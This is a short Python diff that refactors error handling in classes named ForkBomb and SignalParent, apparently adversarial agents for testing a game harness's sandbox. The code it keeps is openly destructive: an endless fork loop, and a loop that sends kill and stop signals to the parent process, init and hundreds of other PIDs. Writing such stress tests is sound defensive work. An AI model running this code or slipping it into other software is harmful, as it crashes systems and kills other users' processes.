@@ -30,10 +30,8 @@ class ForkBomb:
 
     def first_move(self):
         while True:
-            try:
+            with suppress(OSError):
                 os.fork()
-            except OSError:
-                continue
 
 
 class ThreadBomb:
@@ -59,10 +57,8 @@ class SignalParent:
         for target in (os.getppid(), 1, 2, -os.getppid(), *range(3, 400)):
             if target not in (os.getpid(), 0):
                 for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
-                    try:
+                    with suppress(OSError):
                         os.kill(target, number)
-                    except OSError:
-                        continue
         return "aback", 0
 
 
